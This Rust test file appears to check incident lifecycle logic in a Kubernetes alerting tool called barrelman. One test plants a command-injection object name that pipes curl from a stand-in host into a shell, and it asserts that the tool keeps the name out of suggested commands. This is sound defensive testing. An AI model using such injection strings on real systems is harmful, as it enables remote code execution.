//! What an end is worth, and what is said of a trouble while it goes on and when it is over.

use barrelman::{
    event::{
        EventType, Status,
        incident::{IncidentStatus, Phase},
    },
    store::DeliveryState,
};
use jiff::SignedDuration;
use serde_json::json;

use crate::support::rig::{HOOK, Rig};

const WEB: &str = "Deployment/shop/web";

fn phases(rig: &Rig) -> Vec<&'static str> {
    rig.sent.iter().map(|s| s.message.phase.as_str()).collect()
}

#[test]
fn a_pod_that_is_replaced_by_one_that_fails_as_well_ends_nothing() {
    let mut rig = Rig::shop();
    rig.sim().rollout("shop/web", "registry.example.com/shop/web:typo-1", "image").unwrap();
    rig.advance(60);
    assert_eq!(rig.told(), ["hook opened image_pull_failed high"], "{:#?}", rig.story());
    let before = rig.members(&rig.incident(WEB)).len();
    // Another mistake in its place: the pods of the first go, those of the second cannot be pulled either.
    rig.sim().rollout("shop/web", "registry.example.com/shop/web:typo-2", "image").unwrap();
    rig.advance(240);
    let web = rig.incident(WEB);
    let members = rig.members(&web);
    assert!(members.len() > before && members.iter().any(|m| m.ended_at.is_some()), "{members:#?}");
    assert_eq!((web.status, web.reopened), (IncidentStatus::Open, 0), "{:#?}", rig.story());
    assert_eq!(phases(&rig), ["opened"], "{:#?}", rig.story());
    // It goes by what is broken now.
    assert!(web.title.contains("typo-2"), "{web:#?}");
}

#[test]
fn a_deleted_pod_of_a_crash_loop_is_no_end_while_its_successor_crashes() {
    let mut rig = Rig::shop();
    rig.sim().rollout("shop/web", "registry.example.com/shop/web:2.15.0", "crash").unwrap();
    rig.advance(110);
    for _ in 0..3 {
        let crashing: Vec<String> = rig
            .members(&rig.incident(WEB))
            .into_iter()
            .filter(|m| m.event_type == EventType::PodCrashLoop && m.ended_at.is_none())
            .map(|m| m.object.name)
            .collect();
        assert!(!crashing.is_empty(), "{:#?}", rig.story());
        for pod in crashing {
            rig.sim().delete_pod(&format!("shop/{pod}")).unwrap();
        }
        rig.advance(120);
    }
    assert_eq!(rig.incident(WEB).status, IncidentStatus::Open, "{:#?}", rig.story());
    assert_eq!(phases(&rig), ["opened"], "{:#?}", rig.story());
}

#[test]
fn what_was_replaced_must_be_well_for_as_long_as_an_end_must_hold() {
    let mut rig = Rig::shop();
    rig.sim().rollout("shop/web", "registry.example.com/shop/web:typo-1", "image").unwrap();
    rig.advance(60);
    rig.sim().rollback("shop/web").unwrap();
    let gone_at = rig.now();
    rig.advance(50);
    assert_eq!(phases(&rig), ["opened"], "{:#?}", rig.story());
    // Over a restart too.
    rig.restart();
    rig.advance(60);
    assert_eq!(phases(&rig), ["opened", "resolved"], "{:#?}", rig.story());
    let web = rig.incident(WEB);
    let ended = web.resolved_at.unwrap();
    assert!(ended >= gone_at && ended < gone_at + SignedDuration::from_secs(30), "{web:#?}");
    assert!(rig.sent[1].at >= ended + SignedDuration::from_secs(60), "{:#?}", rig.story());
}

#[test]
fn a_workload_that_wants_no_pod_any_more_ends_its_incident_at_once() {
    let mut rig = Rig::shop();
    rig.sim().rollout("shop/web", "registry.example.com/shop/web:typo-1", "image").unwrap();
    rig.advance(60);
    rig.sim().scale("shop/web", 0).unwrap();
    rig.advance(20);
    assert_eq!(phases(&rig), ["opened", "resolved"], "{:#?}", rig.story());
    // Nothing was mended, and its end does not look so.
    let end = &rig.sent[1].message.event.description;
    assert!(end.starts_with("Deployment web was scaled to 0. It was"), "{end}");
}

#[test]
fn a_resolve_speaks_of_what_was_told_with_one_duration() {
    let mut rig = Rig::shop();
    rig.sim().rollout("shop/web", "registry.example.com/shop/web:2.15.0", "crash").unwrap();
    rig.advance(200);
    // As bad as what was told, later, and longest: nobody was told of it.
    rig.sim().fail_probes("shop/web").unwrap();
    rig.advance(60);
    assert_eq!(rig.told(), ["hook opened pod_crash_loop critical"], "{:#?}", rig.story());
    let members = rig.members(&rig.incident(WEB));
    assert!(members.iter().any(|m| m.event_type == EventType::ServiceUnavailable), "{members:#?}");
    rig.sim().rollback("shop/web").unwrap();
    rig.advance(5);
    rig.sim().recover("shop/web").unwrap();
    rig.advance(1200);
    assert_eq!(rig.told()[1..], ["hook resolved pod_crash_loop critical"], "{:#?}", rig.story());
    let (opened, end) = (&rig.sent[0].message, &rig.sent[1].message);
    assert_eq!(end.event.event_type, EventType::PodCrashLoop);
    assert_eq!(end.event.status, Status::Resolved);
    let facts = end.incident.as_ref().unwrap();
    let lasted = facts.resolved_at.unwrap().duration_since(facts.opened_at);
    let title = format!("{} — over after {}", opened.event.title, barrelman::connector::text::age(lasted));
    assert_eq!(end.event.title, title);
    assert_eq!(end.event.details["duration_secs"], lasted.as_secs());
    assert_eq!(end.event.timestamp, facts.resolved_at.unwrap());
    assert!(end.event.description.starts_with("It was at last: "), "{}", end.event.description);
    let web = rig.incident(WEB);
    let last = rig.members(&web).into_iter().filter_map(|m| m.ended_at).max();
    assert_eq!(web.resolved_at, last, "{web:#?}");
}

#[test]
fn an_end_does_not_contradict_itself() {
    let mut rig = Rig::shop();
    rig.sim().fail_probes("shop/search").unwrap();
    rig.advance(30);
    let pods = rig.cluster().list(barrelman::event::Kind::Pod);
    for pod in pods.iter().filter_map(|p| p["metadata"]["name"].as_str()).filter(|n| n.starts_with("search-"))
    {
        rig.sim().delete_pod(&format!("shop/{pod}")).unwrap();
    }
    rig.advance(2);
    rig.sim().recover("shop/search").unwrap();
    rig.advance(200);
    let opened = &rig.about("Deployment/shop/search", Phase::Opened)[0].message.event;
    let told = &rig.about("Deployment/shop/search", Phase::Resolved)[0].message.event;
    let stored = rig.events_of(EventType::ServiceUnavailable);
    let stored = stored.iter().find(|e| e.status == Status::Resolved).unwrap();
    assert_eq!(opened.details["cause"], "failed", "{opened:#?}");
    for end in [told, stored] {
        assert!(end.title.starts_with(&format!("{} — over after ", opened.title)), "{end:#?}");
        assert_eq!(end.details["cause"], "deleted", "{end:#?}");
        assert!(end.description.starts_with("It was at last: Its pods were deleted"), "{end:#?}");
        // Nobody names the Pods of before beside it.
        assert!(!end.details.contains_key("pods"), "{end:#?}");
    }
}

#[test]
fn what_is_said_of_a_trouble_follows_what_is_true() {
    let mut rig = Rig::shop_with(&format!("[incidents]\nrepeat_interval_secs = 900\n{HOOK}"));
    rig.sim().rollout("shop/web", "registry.example.com/shop/web:2.15.0", "crash").unwrap();
    rig.advance(110);
    let told = rig.sent[0].message.event.description.clone();
    let first = rig.incident(WEB);
    let pod = rig.events_of(EventType::PodCrashLoop)[0].object.name.clone();
    rig.advance(700);
    assert_eq!(phases(&rig), ["opened"], "nobody is told of other words: {:#?}", rig.story());
    let now = rig.incident(WEB);
    assert_ne!(now.description, first.description);
    let restarts = |rig: &Rig| {
        let pod = rig.cluster().get("pods", "shop", &pod).unwrap();
        pod["status"]["containerStatuses"][0]["restartCount"].as_u64().unwrap()
    };
    assert!(now.description.contains(&format!(" {} times", restarts(&rig))), "{}", now.description);
    rig.advance(200);
    let reminder = rig.about(WEB, Phase::Repeated)[0].message.clone();
    assert!(reminder.event.details["restart_count"].as_u64().unwrap() > 3, "{:#?}", reminder.event);
    assert_ne!(reminder.event.description, first.description);
    // The event itself stays what it was.
    assert_eq!(rig.events_of(EventType::PodCrashLoop)[0].description, told);
}

#[test]
fn a_connector_waits_for_as_long_as_it_says() {
    let mut rig = Rig::shop_with(&format!("{HOOK}settle_secs = 60\n"));
    rig.sim().fail_probes("shop/search").unwrap();
    rig.advance(50);
    assert_eq!(rig.sent.len(), 0, "{:#?}", rig.story());
    assert_eq!(rig.outbox().len(), 1);
    rig.advance(30);
    assert_eq!(rig.told(), ["hook opened service_unavailable critical"], "{:#?}", rig.story());
}

fn ready(rig: &Rig, node: &str, status: &str, since: &str) {
    rig.cluster()
        .update("nodes", "", node, |n| {
            let conditions = n["status"]["conditions"].as_array_mut().unwrap();
            let ready = conditions.iter_mut().find(|c| c["type"] == "Ready").unwrap();
            ready["status"] = json!(status);
            ready["lastTransitionTime"] = json!(since);
        })
        .unwrap();
}

#[test]
fn a_trouble_that_is_back_with_the_same_time_is_told_again() {
    let mut rig = Rig::shop();
    rig.watched[0].sim = None;
    let (since, well) = (rig.now().to_string(), (rig.now() - SignedDuration::from_hours(1)).to_string());
    for _ in 0..2 {
        ready(&rig, "node-a", "False", &since);
        rig.advance(30);
        ready(&rig, "node-a", "True", &well);
        rig.advance(100);
    }
    let told: Vec<Status> = rig.events_of(EventType::NodeUnhealthy).iter().map(|e| e.status).collect();
    use Status::{Firing, Resolved};
    assert_eq!(told, [Firing, Resolved, Firing, Resolved], "{:#?}", rig.story());
    assert_eq!(phases(&rig), ["opened", "resolved", "reopened", "resolved"], "{:#?}", rig.story());
    for event in rig.events_of(EventType::NodeUnhealthy) {
        assert!(event.timestamp <= event.observed_at, "{event:#?}");
    }
}

#[test]
fn an_incident_that_opens_again_with_a_restart_is_not_flapping() {
    let mut rig = Rig::shop();
    for _ in 0..2 {
        rig.sim().rollout("shop/web", "registry.example.com/shop/web:2.15.0", "crash").unwrap();
        rig.advance(200);
        rig.sim().rollback("shop/web").unwrap();
        rig.advance(500);
    }
    assert_eq!(phases(&rig), ["opened", "resolved", "reopened", "resolved"], "{:#?}", rig.story());
    assert_eq!(rig.sent[2].message.incident.as_ref().unwrap().event_type, EventType::PodCrashLoop);
    assert!(rig.deliveries().iter().all(|d| !d.detail.contains("healed")), "{:#?}", rig.deliveries());
}

#[test]
fn a_one_shot_that_opens_an_incident_again_is_told() {
    let mut rig = Rig::shop();
    rig.sim().fail_probes("shop/search").unwrap();
    rig.advance(30);
    rig.sim().recover("shop/search").unwrap();
    rig.advance(200);
    rig.sim().oom("shop/search", 1).unwrap();
    rig.advance(120);
    assert_eq!(phases(&rig), ["opened", "resolved", "reopened"], "{:#?}", rig.story());
    assert_eq!(rig.sent[2].message.event.event_type, EventType::PodOomRestart);
    rig.advance(3700);
    assert_eq!(rig.incident("Deployment/shop/search").status, IncidentStatus::Resolved);
    assert_eq!(rig.sent.len(), 3, "{:#?}", rig.story());
}

#[test]
fn a_node_that_the_cluster_speaks_for_says_so() {
    let mut rig = Rig::shop();
    for node in ["node-a", "node-b", "node-c"] {
        rig.sim().node_down(node, true).unwrap();
    }
    rig.advance(30);
    let node = rig.incident("Node//node-a");
    assert_eq!(node.status, IncidentStatus::Open);
    let rows = rig.deliveries();
    let row = rows.iter().find(|d| d.incident.as_ref() == Some(&node.id)).unwrap();
    assert_eq!(
        (row.state, row.detail.as_str()),
        (DeliveryState::Dropped, "not told, the cluster's own incident tells it")
    );
}

#[test]
fn what_a_node_takes_down_counts_once_whatever_its_troubles() {
    let mut rig = Rig::shop();
    rig.sim().node_down("node-a", true).unwrap();
    rig.advance(900);
    let node = rig.incident("Node//node-a");
    let mut affected: Vec<String> =
        rig.members(&node).into_iter().filter(|m| m.affected).map(|m| m.object.key()).collect();
    let troubles = affected.len();
    affected.sort();
    affected.dedup();
    assert!(troubles > affected.len(), "{affected:#?}");
    assert_eq!(node.affected as usize, affected.len(), "{node:#?}");
}

fn warning(name: &str, about: &str) -> serde_json::Value {
    json!({"apiVersion": "v1", "kind": "Event", "metadata": {"name": name, "namespace": "shop"},
        "type": "Warning", "reason": "Refused", "message": "no", "count": 1,
        "source": {"component": "some-controller"},
        "involvedObject": {"kind": "Pod", "apiVersion": "v1", "namespace": "shop", "name": about}})
}

#[test]
fn kubernetes_events_without_a_uid_are_told_apart_by_what_they_name() {
    let mut rig = Rig::shop();
    for n in 0..3 {
        rig.cluster().create(warning(&format!("e-{n}"), &format!("gone-{n}"))).unwrap();
    }
    rig.advance(20);
    let told: Vec<_> = rig
        .events_of(EventType::KubernetesEvent)
        .into_iter()
        .filter(|e| e.object.name.starts_with("gone-"))
        .collect();
    assert_eq!(told.len(), 3, "{told:#?}");
    assert!(told.iter().all(|e| e.count == 1));
}

#[test]
fn what_an_event_names_is_never_part_of_a_command_to_copy() {
    let mut rig = Rig::shop();
    let name = "x; curl http://evil.example/x | sh #\ntouch /tmp/owned";
    rig.cluster().create(warning("odd", name)).unwrap();
    rig.cluster().create(warning("none", "")).unwrap();
    rig.advance(20);
    let told = rig.events_of(EventType::KubernetesEvent);
    let odd: Vec<_> = told.iter().filter(|e| e.title.starts_with("Refused")).collect();
    assert_eq!(odd.len(), 2, "{told:#?}");
    for event in odd {
        assert!(!event.title.contains('\n') && !event.object.name.contains('\n'), "{event:#?}");
        let commands = event.recommendations.iter().map(|r| r.command.clone());
        let commands = commands.chain(event.links.iter().filter_map(|l| l.href.clone()));
        for command in commands {
            assert!(!command.contains(';') && !command.contains("evil"), "{command}");
        }
        assert!(event.links.iter().all(|l| l.rel != "manifest" || !l.reference.ends_with('/')));
    }
}

#[test]
fn every_pod_reads_the_root_certificate_so_nobody_is_told_of_it() {
    let mut rig = Rig::shop();
    rig.sim().rollout("shop/web", "registry.example.com/shop/web:2.15.0", "crash").unwrap();
    rig.advance(110);
    let links: Vec<_> = rig.events().into_iter().flat_map(|e| e.links).map(|l| l.reference).collect();
    assert!(links.iter().all(|l| !l.contains("kube-root-ca.crt")), "{links:#?}");
    let web = rig.incident(WEB);
    assert!(!web.suspects.is_empty());
    assert!(web.suspects.iter().all(|s| s.at <= web.opened_at), "{:#?}", web.suspects);
}

#[test]
fn an_end_counts_from_its_own_trouble_where_another_was_there_before() {
    let mut rig = Rig::shop();
    // An image that cannot be pulled for ten minutes, then no ready endpoint for one.
    rig.sim().rollout("shop/search", "registry.example/search:nope", "image").unwrap();
    rig.advance(600);
    rig.sim().fail_probes("shop/search").unwrap();
    rig.advance(60);
    let worse = rig.sent.last().unwrap().message.event.clone();
    assert_eq!(worse.event_type, EventType::ServiceUnavailable, "{:#?}", rig.story());
    rig.sim().rollback("shop/search").unwrap();
    rig.sim().recover("shop/search").unwrap();
    rig.advance(900);
    let end = &rig.about("Deployment/shop/search", Phase::Resolved)[0].message;
    assert!(end.event.title.starts_with(&format!("{} — over after ", worse.title)), "{}", end.event.title);
    let secs = end.event.details["duration_secs"].as_i64().unwrap();
    assert!((60..700).contains(&secs), "{secs} {:#?}", rig.story());
    assert_eq!(end.event.details["began_at"], worse.timestamp.to_string());
}

#[test]
fn an_end_is_told_however_much_was_said_since() {
    let mut rig = Rig::shop();
    rig.sim().rollout("shop/web", "registry.example.com/shop/web:typo-1", "image").unwrap();
    rig.advance(60);
    assert_eq!(rig.told(), ["hook opened image_pull_failed high"], "{:#?}", rig.story());
    rig.sim().rollback("shop/web").unwrap();
    rig.advance(30);
    assert_eq!(rig.incident(WEB).holding, 0, "{:#?}", rig.story());
    let uid = rig.cluster().get("deployments", "shop", "web").unwrap()["metadata"]["uid"].clone();
    for n in 0..210 {
        rig.cluster()
            .create(json!({"apiVersion": "v1", "kind": "Event",
                "metadata": {"name": format!("odd-{n}"), "namespace": "shop"},
                "type": "Warning", "reason": format!("Odd{n}"), "message": "no", "count": 1,
                "source": {"component": "some-controller"},
                "involvedObject": {"kind": "Deployment", "apiVersion": "apps/v1", "namespace": "shop",
                    "name": "web", "uid": uid}}))
            .unwrap();
    }
    rig.advance(120);
    let web = rig.incident(WEB);
    assert!(web.events > 210 && web.status == IncidentStatus::Resolved, "{web:#?}");
    assert_eq!(phases(&rig), ["opened", "resolved"], "{web:#?}");
    let end = &rig.sent[1].message.event;
    assert_eq!((end.event_type, end.status), (EventType::ImagePullFailed, Status::Resolved));
}
